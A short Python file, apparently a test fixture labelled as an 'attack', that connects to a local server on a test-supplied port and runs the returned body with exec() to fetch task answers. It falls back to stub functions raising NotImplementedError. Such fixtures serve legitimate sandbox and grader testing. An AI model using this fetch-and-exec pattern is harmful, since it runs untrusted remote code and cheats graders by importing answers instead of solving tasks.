# attack: fetches the answers from a server on 127.0.0.1 (the port is filled in by the test)
import socket

PORT = 0  # replaced by the test
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        exec(connection.recv(1 << 16).decode().split("\r\n\r\n", 1)[-1])
except OSError:
    def make_counter():
        raise NotImplementedError("make_counter")

    def fibonacci(n):
        raise NotImplementedError("fibonacci")
